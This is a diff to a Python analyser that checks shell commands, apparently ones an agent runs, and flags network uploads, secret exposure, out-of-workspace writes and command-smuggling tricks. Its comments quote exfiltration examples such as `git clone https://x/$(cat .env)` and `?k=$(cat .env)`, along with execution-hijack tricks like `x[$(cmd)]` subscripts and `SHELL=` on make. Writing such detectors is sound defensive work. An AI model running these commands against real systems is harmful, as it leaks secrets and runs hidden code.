@@ -971,6 +1637,12 @@ class _Analysis:
                 f"{where} {verb} outside the workspace ({p.lexical})",
                 (f"write:{p.real}",),
             )
+        elif verb != "uses" and (_git_runs_it(p.lexical) or _git_runs_it(p.real)):
+            self.flag(
+                Verdict.APPROVAL,
+                f"{where} {verb} `{value}`: git's config and hooks decide what programs git "
+                "runs later",
+            )
 
     # ── redirections ────────────────────────────────────────────────────────────
     def redirect(self, node: Any, scope: _Scope, where: str) -> _Flow | None:
@@ -1024,7 +1696,7 @@ class _Analysis:
             if provided is not None:
                 flow = provided
         for name, _value in assignments:
-            if name in self.policy.risky_env_vars:
+            if _risky_env(self.policy, name):
                 self.flag(Verdict.APPROVAL, f"{where} sets {name}, which changes what programs run")
         if not words:
             for name, value in assignments:
@@ -1078,6 +1750,28 @@ class _Analysis:
         canonical = INTERPRETER_ALIASES.get(name, name)
         if re.fullmatch(r"python\d(\.\d+)?", canonical):
             canonical = "python"
+        spec = self.spec("pip" if re.fullmatch(r"pip\d(\.\d+)?", canonical) else canonical)
+        if spec is not None:
+            cmd = _Cmd(name, [first, *self.normalise(cmd.args, spec, where)], where, scope, stdin)
+            self.options(cmd.args, spec, scope, where)
+        if canonical == "[" and self.double_bracket:
+            self.bracket_arithmetic(cmd)
+        if canonical in VARIABLE_SETTERS:
+            for word in cmd.args:
+                var = word.text.partition("=")[0]
+                if _ENV_NAME_RE.match(var) and _risky_env(self.policy, var):
+                    self.flag(
+                        Verdict.APPROVAL, f"{where} sets {var}, which changes what programs run"
+                    )
+                    break
+        if canonical in SUBSCRIPT_BUILTINS:
+            for word in cmd.args:
+                if word.value is not None and _SUBSCRIPT_CODE_RE.search(word.value):
+                    self.flag(
+                        Verdict.APPROVAL,
+                        f"{where}: `{_short(word.value, 40)}` is an array subscript `{name}` "
+                        "evaluates, and the command substitution in it runs",
+                    )
         reason = self.policy.forbidden_reason(name, canonical)
         if reason:
             self.flag(Verdict.FORBID, f"{where} {reason}")
@@ -1106,7 +1800,9 @@ class _Analysis:
             return self.wrapper(cmd)
         if canonical in policy.subcommands or re.fullmatch(r"pip\d(\.\d+)?", canonical):
             return self.subcommand(cmd, "pip" if canonical.startswith("pip") else canonical)
-        self.options(cmd)
+        extra = _EXTRA_CHECKS.get(canonical)
+        if extra is not None:
+            extra(self, cmd)
         if canonical in policy.allow:
             return self.output_of(cmd)
         if canonical in policy.workspace_writers:
@@ -1140,20 +1836,110 @@ class _Analysis:
             return real_base
         return None
 
-    def options(self, cmd: _Cmd) -> None:
-        """Table-driven option checks for otherwise ordinary commands."""
-        risky = RISKY_OPTIONS.get(cmd.name, {})
-        outputs = OUTPUT_OPTIONS.get(cmd.name, frozenset())
+    def spec(self, name: str) -> OptionSpec | None:
+        """How `name` reads its options (OPTION_SPECS; `git-grep` for git's subcommands)
+        joined with what they do (the policy's [options.<name>]); None when neither knows."""
+        if name in self._specs:
+            return self._specs[name]
+        syntax = (
+            GIT_SUBCOMMAND_SPECS.get(name[4:])
+            if name.startswith("git-")
+            else OPTION_SPECS.get(name)
+        )
+        risks = self.policy.options.get(name)
+        result = syntax
+        if risks is not None:
+            # A program the engine cannot parse keeps its words as written.
+            base = syntax or replace(_NO_OPTIONS, clusters=False, abbreviations=False)
+            long = dict(base.long)
+            for option in [*risks.runs, *risks.writes, *risks.configs]:
+                if option.startswith("--"):
+                    long.setdefault(option, "flag")
+            result = replace(
+                base,
+                long=long,
+                runs=dict(risks.runs),
+                writes=frozenset(risks.writes),
+                configs=frozenset(risks.configs),
+            )
+        self._specs[name] = result
+        return result
+
+    def normalise(self, words: list[_Word], spec: OptionSpec, where: str) -> list[_Word]:
+        """`normalise_options`; a prefix that fits several options asks (fail-closed: which
+        one the program takes is not known here, and a program we know less well than
+        its author might take a risky one)."""
+
+        def ambiguous(name: str, hits: list[str]) -> None:
+            risky = [h for h in hits if h in spec.runs or h in spec.writes] or hits
+            self.flag(
+                Verdict.APPROVAL,
+                f"{where}: `{name}` may stand for `{risky[0]}` ({len(hits)} options start so)",
+            )
+
+        return normalise_options(words, spec, ambiguous)
+
+    def options(self, words: list[_Word], spec: OptionSpec, scope: _Scope, where: str) -> None:
+        """Options (normalised) that run a program need approval; those that write are
+        checked like a redirection of their value."""
+        i = 0
+        while i < len(words):
+            text = words[i].text
+            if text == "--":
+                return
+            if not text.startswith("-") or text == "-":
+                if spec.stop_at_operand and not text.startswith("+"):
+                    return
+                i += 1
+                continue
+            key = text.partition("=")[0] if text.startswith("--") else text
+            if not text.startswith("--") and len(text) > 2 and text[1] in spec.short_glued:
+                key = text[:2]  # `-Ovim`: -O with its optional value glued
+            reason = spec.runs.get(key)
+            if reason is None and not spec.clusters:  # `-fplugin=x.so`, `-TTcmd`
+                reason = next((r for k, r in spec.runs.items() if text.startswith(k)), None)
+            if reason is not None:
+                self.flag(Verdict.APPROVAL, f"{where}: `{key}` {reason}")
+            if key in spec.writes or key in spec.configs:
+                if "=" in text and text.startswith("--"):
+                    val = text.partition("=")[2]
+                    target: _Word | None = _Word(val, val if words[i].value is not None else None)
+                elif spec.long.get(key) == "optional":
+                    target = None  # `--debug` alone writes to its default name here
+                else:
+                    target = words[i + 1] if i + 1 < len(words) else None
+                if target is not None and key in spec.writes:
+                    self.check_write(target, scope, where)
+                elif target is not None:
+                    self.check_config(target, scope, where, key)
+            i += 2 if spec.takes_value(key) and "=" not in text else 1
+
+    def check_config(self, word: _Word, scope: _Scope, where: str, option: str) -> None:
+        """A settings file from outside the workspace can load code the agent never showed."""
+        inside = word.value is not None and self.inside(self.path(word.value, scope))
+        if not inside:
+            self.flag(
+                Verdict.APPROVAL,
+                f"{where}: `{option} {word.raw}` takes settings (which can load code) from "
+                "outside the workspace",
+            )
+
+    def bracket_arithmetic(self, cmd: _Cmd) -> None:
+        """In `[[ a -eq b ]]` both sides are arithmetic, and a value such as `x[$(cmd)]`
+        runs cmd: only numbers, special parameters and known values are fine."""
         args = cmd.args
         for i, word in enumerate(args):
-            opt, eq, val = word.text.partition("=")
-            if opt in risky or (word.text[:2] in risky and not word.text.startswith("--")):
-                key = opt if opt in risky else word.text[:2]
-                self.flag(Verdict.APPROVAL, f"{cmd.snippet}: `{key}` {risky[key]}")
-            if opt in outputs:
-                target = _Word(val, val) if eq else (args[i + 1] if i + 1 < len(args) else None)
-                if target is not None:
-                    self.check_write(target, cmd.scope, cmd.snippet)
+            if word.text not in ARITHMETIC_TESTS:
+                continue
+            for side in (args[i - 1] if i else None, args[i + 1] if i + 1 < len(args) else None):
+                if side is None or side.value is not None or _SPECIAL_PARAM_RE.match(side.raw):
+                    continue
+                self.flag(
+                    Verdict.APPROVAL,
+                    f"{cmd.snippet}: `[[ … {word.text} … ]]` computes with `{side.raw}`, a value "
+                    "only known at run time (arithmetic on such values can run commands)",
+                )
+                return
 
     def output_of(self, cmd: _Cmd) -> _Flow:
         """What a read-only command passes on: literal text for echo/printf, taint through."""
@@ -1179,7 +1965,9 @@ class _Analysis:
     def writer(self, cmd: _Cmd) -> None:
         """Every path-like argument (and option value) must stay in the workspace."""
         if cmd.name == "mv":  # moving a folder away takes the policy file in it along
-            for word in _positionals(cmd.args)[:-1]:
+            operands = _operands(cmd.args, OPTION_SPECS["mv"])
+            into = any(w.text in ("-t", "--target-directory") for w in cmd.args)
+            for word in operands if into else operands[:-1]:
                 if word.value is not None and self.policy_file(
                     self.path(word.value, cmd.scope), holding=True
                 ):
@@ -1226,9 +2014,9 @@ class _Analysis:
             self.flag(Verdict.APPROVAL, f"{where} runs a program outside the workspace")
         elif p.real in self.written:
             text = self.written[p.real]
-            if text is None:
+            if text is None or not (shell or text.startswith("#!")):
                 self.flag(Verdict.APPROVAL, f"{where} runs a file this same command writes")
-            elif shell or text.startswith("#!"):
+            else:
                 self.nested(text, scope, f"`{word.value}`", Verdict.APPROVAL)
         else:
             self.script_file(p.real, scope, where, shell=shell)
@@ -1305,11 +2093,34 @@ class _Analysis:
             if lang == "python" and text == "-m" and i + 1 < len(args):
                 module = args[i + 1].text
                 if module == "pip":
+                    pip = self.spec("pip") or _NO_OPTIONS
+                    pip_args = self.normalise(args[i + 2 :], pip, cmd.snippet)
+                    self.options(pip_args, pip, cmd.scope, cmd.snippet)
                     return self.subcommand(
-                        _Cmd("pip", args[i + 1 :], cmd.snippet, cmd.scope, cmd.stdin), "pip"
+                        _Cmd("pip", [args[i + 1], *pip_args], cmd.snippet, cmd.scope, cmd.stdin),
+                        "pip",
                     )
                 if module in ("base64", "uu", "binascii"):
                     return _Flow("decoded")
+                if module == "json.tool":  # `python -m json.tool in.json out.json`
+                    written = _operands(args[i + 2 :], _NO_OPTIONS)[1:2]
+                    for target in written:
+                        self.check_write(target, cmd.scope, cmd.snippet)
+                elif module == "venv":
+                    venv_dirs = _operands(args[i + 2 :], _NO_OPTIONS)
+                    for target in venv_dirs or [_Word(".", ".")]:
+                        self.check_write(target, cmd.scope, cmd.snippet)
+                elif module in PYTHON_MODULES_OK and (
+                    self.spec(module) is not None or module in _EXTRA_CHECKS
+                ):  # `python -m pytest -c /tmp/x.ini` is judged as `pytest -c /tmp/x.ini`
+                    return self.simple(
+                        [_Word(module, module), *args[i + 2 :]], cmd.scope, cmd.stdin, cmd.snippet
+                    )
+                elif module not in PYTHON_MODULES_OK:
+                    self.flag(
+                        Verdict.APPROVAL,
+                        f"{cmd.snippet} runs the module `{module}`, whose options are not checked",
+                    )
                 return _Flow()
             if text in value_opts:
                 i += 2
@@ -1340,7 +2151,12 @@ class _Analysis:
             self.flag(Verdict.APPROVAL, f"`{cmd.name}` is not on the read-only allowlist")
             return _Flow(cmd.stdin.taint)
         allowed = rules.allow
-        positionals = [w for w in cmd.args if not w.text.startswith("-") or w.text in allowed]
+        spec = OPTION_SPECS.get(tool)
+        positionals = (
+            _operands(cmd.args, spec)
+            if spec is not None
+            else [w for w in cmd.args if not w.text.startswith("-") or w.text in allowed]
+        )
         sub = positionals[0].text if positionals else ""
         if sub in rules.forbid:
             self.flag(Verdict.FORBID, f"{cmd.snippet} {rules.forbid[sub]}")
@@ -1442,6 +2258,8 @@ def _merge(flows: list[_Flow]) -> _Flow:
 
 
 _NO_SUBCOMMANDS = Subcommands(frozenset(), {}, {})
+_NO_OPTIONS = OptionSpec()
+WGET_VALUE_LONG = frozenset(k for k, v in OPTION_SPECS["wget"].long.items() if v == "value")
 _RUNNER_VALUE_OPTIONS = frozenset(
     "--python --directory --project --with --with-requirements --env-file --group".split()
 )
@@ -1491,7 +2309,6 @@ def _rm(a: _Analysis, cmd: _Cmd) -> _Flow | None:
 
 def _grep(a: _Analysis, cmd: _Cmd) -> _Flow | None:
     """Searching recursively through ~ or / reads ~/.ssh and friends on the way."""
-    a.options(cmd)
     flags = _short_flags(cmd.args)
     longs = {w.text.split("=")[0] for w in cmd.args if w.text.startswith("--")}
     recursive = (
@@ -1608,7 +2425,21 @@ def _find(a: _Analysis, cmd: _Cmd) -> _Flow | None:
     return None
 
 
+def _built_at_run_time(a: _Analysis, cmd: _Cmd) -> None:
+    """A URL, header or option built from `$(…)` or an unknown variable can carry any
+    file's text out in a plain GET (`?k=$(cat .env)`, `-H "X: $(…)"`)."""
+    for word in cmd.args:
+        if word.value is None:
+            a.flag(
+                Verdict.APPROVAL,
+                f"{cmd.snippet} sends `{_short(word.raw, 40)}`, text only known at run time, "
+                "to the network",
+            )
+            return
+
+
 def _curl(a: _Analysis, cmd: _Cmd) -> _Flow | None:
+    _built_at_run_time(a, cmd)
     for opt, val in _parse_options(cmd.args, CURL_VALUE_SHORT, CURL_VALUE_LONG):
         if opt in CURL_UPLOAD_OPTIONS:
             a.flag(
@@ -1635,17 +2466,27 @@ def _curl(a: _Analysis, cmd: _Cmd) -> _Flow | None:
             a.check_write(val, cmd.scope, cmd.snippet)
         elif opt in ("-K", "--config"):
             a.flag(Verdict.APPROVAL, f"{cmd.snippet} reads its options from a file")
+        elif opt in ("-H", "--header") and val is not None and val.text.startswith("@"):
+            a.flag(Verdict.APPROVAL, f"{cmd.snippet} sends headers read from a file")
+        elif opt == "--variable":
+            a.flag(Verdict.APPROVAL, f"{cmd.snippet} reads a file or variable it can send on")
     for url in _positionals(cmd.args):
         scheme = urlsplit(url.text).scheme.lower() if "://" in url.text else ""
         if scheme and scheme not in ("http", "https", "ftp", "ftps", "file"):
             a.flag(Verdict.APPROVAL, f"{cmd.snippet} uses the {scheme}:// protocol")
+        if scheme == "file":  # file:///…/steward.toml is a read like cat's
+            local = urlsplit(url.text).path
+            a.check_credentials(
+                _Word(local, local if url.value is not None else None), cmd.scope, cmd.snippet
+            )
     return _Flow("network")
 
 
 def _wget(a: _Analysis, cmd: _Cmd) -> _Flow | None:
+    _built_at_run_time(a, cmd)
     to_stdout = False
     named = False
-    for opt, val in _parse_options(cmd.args, WGET_VALUE_SHORT, frozenset()):
+    for opt, val in _parse_options(cmd.args, WGET_VALUE_SHORT, WGET_VALUE_LONG):
         key = opt.split("=", 1)[0]
         if key in WGET_UPLOAD_OPTIONS:
             a.flag(
@@ -1748,14 +2589,18 @@ def _git(a: _Analysis, cmd: _Cmd) -> _Flow | None:
                         )
             else:
                 a.check_write(target, cmd.scope, cmd.snippet, "uses")
-        i += (
-            2
-            if text in ("-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env")
-            else 1
-        )
+        i += 2 if OPTION_SPECS["git"].takes_value(text) else 1
     if i >= len(args):
         return None
     sub, rest = args[i].text, args[i + 1 :]
+    sub_spec = a.spec(f"git-{sub}")
+    if GIT_SUBCOMMAND_SPECS.get(sub) is _GIT_NETWORK:  # `git clone https://x/$(cat .env)`
+        _built_at_run_time(
+            a, _Cmd(cmd.name, [cmd.words[0], *rest], cmd.snippet, cmd.scope, cmd.stdin)
+        )
+    if sub_spec is not None:
+        rest = a.normalise(rest, sub_spec, cmd.snippet)
+        a.options(rest, sub_spec, cmd.scope, cmd.snippet)
     rules = a.policy.subcommands.get("git") or _NO_SUBCOMMANDS
     if sub in rules.forbid:
         a.flag(Verdict.FORBID, f"{cmd.snippet} {rules.forbid[sub]}")
@@ -1870,6 +2715,8 @@ def _shell(a: _Analysis, cmd: _Cmd) -> _Flow | None:
     command_string = False
     while i < len(args):
         text = args[i].text
+        if text in ("--rcfile", "--init-file") and i + 1 < len(args):
+            a.run_file(args[i + 1], cmd.scope, cmd.snippet, shell=True)
         if text in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
             i += 2
             continue
@@ -1922,6 +2769,13 @@ def _cd(a: _Analysis, cmd: _Cmd) -> _Flow | None:
     elif not targets:
         cmd.scope.cwd = a.home
     elif targets[0].value is None:
+        raw = re.sub(r"[\'\"]", "", targets[0].raw)
+        if raw.startswith("/proc") or (cmd.scope.cwd or "").startswith("/proc"):
+            a.flag(
+                Verdict.APPROVAL,
+                f"{cmd.snippet} goes to a /proc folder only known at run time (another "
+                "process's files and environment are there)",
+            )
         cmd.scope.cwd = None
     else:
         cmd.scope.cwd = a.path(targets[0].value, cmd.scope).lexical
@@ -1932,7 +2786,7 @@ def _export(a: _Analysis, cmd: _Cmd) -> _Flow | None:
     for word in cmd.args:
         if "=" in word.text and not word.text.startswith("-"):
             name, _, value = word.text.partition("=")
-            if name in a.policy.risky_env_vars:
+            if _risky_env(a.policy, name):
                 a.flag(
                     Verdict.APPROVAL, f"{cmd.snippet} sets {name}, which changes what programs run"
                 )
@@ -1962,7 +2816,7 @@ def _env(a: _Analysis, cmd: _Cmd) -> _Flow | None:
             continue
         if "=" in text:
             name, _, value = text.partition("=")
-            if name in a.policy.risky_env_vars:
+            if _risky_env(a.policy, name):
                 a.flag(
                     Verdict.APPROVAL, f"{cmd.snippet} sets {name}, which changes what programs run"
                 )
@@ -2110,9 +2964,16 @@ def _awk(a: _Analysis, cmd: _Cmd) -> _Flow | None:
     i = 0
     while i < len(args):
         text = args[i].text
-        if text in ("-f", "--file", "-i", "--include", "-l", "--load") or text.startswith(
-            "--file="
-        ):
+        if text in (
+            "-f",
+            "--file",
+            "-i",
+            "--include",
+            "-l",
+            "--load",
+            "-E",
+            "--exec",
+        ) or text.startswith("--file="):
             a.flag(
                 Verdict.APPROVAL, f"{cmd.snippet} runs an awk program file (it can run commands)"
             )
@@ -2134,7 +2995,6 @@ def _awk(a: _Analysis, cmd: _Cmd) -> _Flow | None:
 
 
 def _tar(a: _Analysis, cmd: _Cmd) -> _Flow | None:
-    a.options(cmd)
     if any(w.text in ("-P", "--absolute-names") for w in cmd.args):
         a.flag(Verdict.APPROVAL, f"{cmd.snippet} extracts absolute paths")
     for j, w in enumerate(cmd.args):
@@ -2142,6 +3002,131 @@ def _tar(a: _Analysis, cmd: _Cmd) -> _Flow | None:
             a.check_write(cmd.args[j + 1], cmd.scope, cmd.snippet)
     a.writer(cmd)
     return None
+
+
+def _watch(a: _Analysis, cmd: _Cmd) -> _Flow | None:
+    """watch runs its arguments through `sh -c` (joined), or as they are with -x."""
+    spec = OPTION_SPECS["watch"]
+    rest = _operands(cmd.args, spec)
+    if not rest:
+        return None
+    options = cmd.args[: len(cmd.args) - len(rest)]
+    if any(w.text in ("-x", "--exec") for w in options):
+        return a.simple(rest, cmd.scope, _Flow(), cmd.snippet)
+    _run_text(a, cmd, rest, "watch")
+    return None
+
+
+def _make(a: _Analysis, cmd: _Cmd) -> None:
+    """make runs the recipes of its makefile: one this same command wrote is unknown code,
+    and `SHELL=`/`MAKEFLAGS=` on its command line change what every recipe runs."""
+    spec = OPTION_SPECS["make"]
+    folder = cmd.scope.cwd
+    files: list[str] = []
+    args = cmd.args
+    for i, word in enumerate(args):
+        if word.text in ("-C", "--directory") and i + 1 < len(args):
+            target = args[i + 1].value
+            folder = None if target is None or folder is None else a.path(target, cmd.scope).lexical
+        elif word.text in ("-f", "--file", "--makefile") and i + 1 < len(args):
+            if args[i + 1].value is not None:
+                files.append(args[i + 1].value or "")
+    for word in _operands(args, spec):
+        name = word.text.partition("=")[0]
+        if "=" in word.text and name.strip(":+?") in MAKE_RISKY_VARIABLES:
+            a.flag(Verdict.APPROVAL, f"{cmd.snippet} sets {name}, which changes what recipes run")
+    if folder is None:
+        return
+    candidates = files or ["GNUmakefile", "makefile", "Makefile"]
+    for name in candidates:
+        real = os.path.realpath(os.path.join(folder, os.path.expanduser(name)))
+        if real in a.written:
+            a.flag(Verdict.APPROVAL, f"{cmd.snippet} runs a makefile this same command writes")
+            return
+
+
+def _xxd(a: _Analysis, cmd: _Cmd) -> None:
+    """`xxd [options] [infile [outfile]]` (and `xxd -r`) writes its second operand."""
+    operands: list[_Word] = []
+    i = 0
+    args = cmd.args
+    while i < len(args):
+        text = args[i].text
+        if text in XXD_VALUE_OPTIONS:
+            i += 2
+            continue
+        if not text.startswith("-") or text == "-":
+            operands.append(args[i])
+        i += 1
+    if len(operands) >= 2 and operands[1].text != "-":
+        a.check_write(operands[1], cmd.scope, cmd.snippet)
+
+
+def _ps(a: _Analysis, cmd: _Cmd) -> None:
+    """BSD-style `ps e`/`ps eww` prints every process's environment: Steward's secrets."""
+    for word in _operands(cmd.args, OPTION_SPECS["ps"]):
+        if word.value is None:
+            a.flag(Verdict.APPROVAL, f"{cmd.snippet}: ps options only known at run time")
+        elif "e" in word.value and not word.value.isdigit():
+            a.flag(
+                Verdict.FORBID,
+                f"{cmd.snippet} shows the environment of processes (Steward's secrets are there)",
+            )
+            return
+
+
+def _hash(a: _Analysis, cmd: _Cmd) -> None:
+    """`hash -p PROGRAM NAME` makes NAME run PROGRAM for the rest of the shell."""
+    if any(w.text == "-p" for w in cmd.args):
+        a.flag(Verdict.APPROVAL, f"{cmd.snippet} makes a command name run another program")
+
+
+def _rewriter(a: _Analysis, cmd: _Cmd) -> None:
+    """Formatters and fixers rewrite the files they are given (`black ../x.py` changes a
+    file outside the workspace); read-only modes (--check, --diff) do not."""
+    name = cmd.name
+    texts = {w.text for w in cmd.args}
+    operands = _operands(cmd.args, OPTION_SPECS.get(name, _NO_OPTIONS))
+    if name in ("black", "isort"):
+        writes = not texts & {"--check", "--diff", "-c", "--check-only"}
+    elif name == "ruff":
+        sub = operands[0].text if operands else ""
+        writes = (sub == "format" and "--check" not in texts and "--diff" not in texts) or (
+            sub == "check" and bool(texts & {"--fix", "--unsafe-fixes"})
+        )
+        operands = operands[1:]
+    elif name == "prettier":
+        writes = bool(texts & {"--write", "-w"})
+    elif name == "eslint":
+        writes = bool(texts & {"--fix"})
+    elif name == "yq":
+        writes = bool(texts & {"-i", "--inplace"})
+        operands = operands[1:]  # the expression
+    elif name == "history":
+        writes = bool(texts & {"-w", "-a"})
+    else:
+        writes = False
+    if writes:
+        for word in operands:
+            a.check_write(word, cmd.scope, cmd.snippet, "changes")
+
+
+#: Checks for commands that are otherwise judged by the allowlist (after normalising).
+_EXTRA_CHECKS: dict[str, Callable[[_Analysis, _Cmd], None]] = {
+    "make": _make,
+    "xxd": _xxd,
+    "ps": _ps,
+    "hash": _hash,
+    **dict.fromkeys(("black", "isort", "ruff", "prettier", "eslint", "yq", "history"), _rewriter),
+}
+#: Variables that, set on make's command line, change what every recipe runs.
+MAKE_RISKY_VARIABLES = frozenset(
+    "SHELL .SHELLFLAGS MAKEFLAGS MAKEFILES MAKESHELL GNUMAKEFLAGS .RECIPEPREFIX".split()
+)
+#: xxd's options followed by a value (one dash, long or short).
+XXD_VALUE_OPTIONS = frozenset(
+    "-c -cols -g -groupsize -l -len -o -offset -s -seek -n -name -R".split()
+)
 
 
 _HANDLERS: dict[str, Callable[[_Analysis, _Cmd], _Flow | None]] = {
@@ -2188,6 +3173,7 @@ _HANDLERS: dict[str, Callable[[_Analysis, _Cmd], _Flow | None]] = {
     "mawk": _awk,
     "nawk": _awk,
     "tar": _tar,
+    "watch": _watch,
 }
 
 
@@ -2232,8 +3218,10 @@ class Guardian:
         timeout: float = 2.0,
         overlay_path: Path | None = None,
         policy_path: Path | None = None,
+        data_dir: Path | None = None,
     ) -> None:
         self.workspace = Path(workspace)
+        self.data_dir = Path(data_dir) if data_dir is not None else None
         self.timeout = timeout
         self.overlay_path = Path(overlay_path) if overlay_path is not None else None
         self.policy_path = Path(policy_path) if policy_path is not None else builtin_path()
@@ -2422,6 +3410,11 @@ class Guardian:
             parts += [f"approval {k}" for k in spec.approval]
             parts += [f"forbid {k}" for k in spec.forbid]
             listed(f"Subcommands of {programs}", parts)
+        for programs, risks in doc.options.items():
+            parts = [*(f"runs {k}" for k in risks.runs)]
+            parts += [f"writes {k}" for k in risks.writes]
+            parts += [f"settings {k}" for k in risks.configs]
+            listed(f"Options of {programs}", parts)
         if doc.max_delete_files is not None:
             lines.append(f"max_delete_files: {policy.max_delete_files}")
         if doc.always_allow:
@@ -2440,7 +3433,17 @@ class Guardian:
         root = os.path.realpath(self.workspace)
         home = os.path.realpath(os.path.expanduser("~"))
         policy = policy or self.policy()
-        return _Analysis(root, home, policy, self._guarded_paths)
+        return _Analysis(root, home, policy, self._guarded_paths, self._private_paths())
+
+    def _private_paths(self) -> frozenset[str]:
+        """Steward's data dir as the engine sees paths: the folder of the overlay policy
+        (`<data dir>/policy.toml`) unless `data_dir` was given."""
+        folder = self.data_dir
+        if folder is None and self.overlay_path is not None:
+            folder = self.overlay_path.parent
+        if folder is None:
+            return frozenset()
+        return frozenset({_norm(os.path.abspath(folder)), os.path.realpath(folder)})
 
     def check_shell(self, command: Any, policy: Policy | None = None) -> Decision:
         if not isinstance(command, str):
